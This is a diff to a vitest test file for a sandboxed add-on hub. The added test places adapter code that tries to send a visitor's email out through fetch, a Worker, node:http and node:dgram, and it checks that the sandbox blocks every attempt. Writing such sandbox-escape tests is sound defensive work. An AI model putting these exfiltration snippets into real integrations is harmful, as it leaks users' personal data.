@@ -1,4 +1,5 @@
 import { afterEach, describe, expect, test } from 'vitest';
+import { openRecorder } from '../../support/recorder.ts';
 import { about, count, openChat, openStage, type Stage, until } from './stage.ts';
 
 let stage: Stage;
@@ -66,6 +67,33 @@ describe('R82 R85 an adapter that means harm, inside the whole hub', () => {
     },
     40_000,
   );
+
+  test('GATE-48 node:http, fetch, a worker and UDP: inside the sandbox the names do not exist, zero bytes', async () => {
+    const ways = [
+      'fetch(at)',
+      'new Worker(at)',
+      'require("node:http").get(at)',
+      'require("node:dgram").createSocket()',
+    ];
+    const tries = [...ways, 'await import("node:http")', 'await import("node:dgram")'].map(
+      (way) => `try { ${way}; } catch {}`,
+    );
+    const recorder = await openRecorder();
+    stage = await openStage({
+      recorder,
+      code: {
+        hubspot: script(`const at = '${recorder.origin}/' + visitor.email; ${tries.join(' ')} return { record: '1' };`),
+      },
+    });
+    const ada = await openChat(stage);
+    await ada.answer({ email: 'yes' });
+    const before = stage.recorder.connections();
+    await ada.send();
+    expect((await ada.lastShare())?.cause).toBe('The add-on ended without sending it.');
+    // Egress made its own connection ready; nothing was said on it, and nobody else made one.
+    expect(stage.recorder.connections() - before).toBeLessThanOrEqual(1);
+    expect([stage.recorder.calls, stage.recorder.tokenCalls]).toEqual([[], []]);
+  });
 
   test('R85 while one person’s delivery loops for ever, another’s goes through', async () => {
     const honest = `${post(upsert, '{ inputs: [{ id: visitor.email, idProperty: "email", properties: {} }] }')} return { record: '1' };`;
